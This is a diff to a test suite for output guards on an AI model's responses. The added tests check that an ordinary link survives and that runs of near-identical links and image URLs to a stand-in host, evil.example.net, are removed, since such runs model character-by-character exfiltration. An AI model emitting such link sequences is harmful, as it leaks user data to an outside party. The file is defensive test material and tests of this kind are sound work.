@@ -166,6 +166,12 @@ describe('response guards on outputs', () => {
       assert.equal(r.streamed, r.plain);
       assert.deepEqual(r.finishStream, ['stop']);
     }
+    // A plain link without data to another host is kept (recorded); with data it goes.
+    const plainLink = await both('Read [the article](https://news.example.org/story) later.');
+    assert.equal(plainLink.plain, 'Read [the article](https://news.example.org/story) later.');
+    assert.equal(plainLink.streamed, plainLink.plain);
+    const seqLinks = await both(['a', 'b', 'c', 'd'].map((c) => `[${c}](https://evil.example.net/q/${c})`).join(' '));
+    assert.ok(!seqLinks.plain.includes('evil.example.net') && !seqLinks.streamed.includes('evil.example.net'), 'plain links forming a char-by-char run are removed');
     // Near-identical URLs (character-by-character exfiltration) are all removed.
     const seq = ['a', 'b', 'c', 'd'].map((c) => `![x](https://evil.example.net/p/${c}.png)`).join(' ');
     const r = await both(`Loading ${seq} done`);
